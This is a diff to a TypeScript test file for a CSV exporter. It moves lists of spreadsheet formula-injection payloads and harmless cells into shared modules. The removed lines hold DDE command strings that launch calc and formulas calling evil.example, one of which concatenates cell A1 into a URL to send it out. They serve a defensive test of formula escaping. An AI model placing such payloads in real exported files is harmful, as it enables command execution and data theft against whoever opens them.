@@ -1,20 +1,9 @@
 import { parse } from 'csv-parse/sync'
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
-import { csvLines, csvResponse, downloadName, escapeFormula, unescapeFormula } from './csv-export.ts'
-
-const formulas = [
-  '=1+1', '=1+1\nfoo', '\n=1+1', '\r\n=1+1', '\r=1+1', '\t=1+1', ' =1+1', '   =1+1', '\0=1+1', ' \0 =1+1', '\u00a0=1+1', '\u2003=1+1',
-  '\ufeff=1+1', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")',
-  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")', '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"x")',
-  '@A1', '+1+1', '-1-1', '--1', '++1', '-', '+', '=', '@', '=""', '="x"', "='x'", '=1,2', '=1;2', '=1\t2', '="a""b"', '＝1+1', '＋1+1', '－1+1', '＠A1',
-  ' ＝1+1', '+15551234567', '+1 (555) 123-4567', '-5.00 USD', '-$5.00', '-1,234.50', '-.5', '-5.', '-1e5', '=-5', '\t', '\n', '\r', '\r\n',
-  "'=1+1", "''=1+1", "'+1", "'-5", "'\t=1", '-5\n', '=\u202e1+1', '=😀',
-]
-const harmless = [
-  '', 'plain', '-5', '-5.00', '5', '0.5', '00501', 'a=b', 'a@b.example', "O'Neil", "'", "''", "'quoted'", 'it is -5', '1-800-555-0100',
-  'José Jiménez', '😀', 'a,b', 'a"b', 'a\nb', ' a ', 'x=1+1',
-]
+import { escapeFormula, unescapeFormula } from '#lib/contract/formulas.ts'
+import { formulas, harmless } from '#lib/fuzz/payloads.ts'
+import { csvLines, csvResponse, downloadName } from './csv-export.ts'
 
 describe('cells that a spreadsheet could run', () => {
   test.each(formulas.map((cell) => [cell]))('%j gets one quote in front', (cell) => {
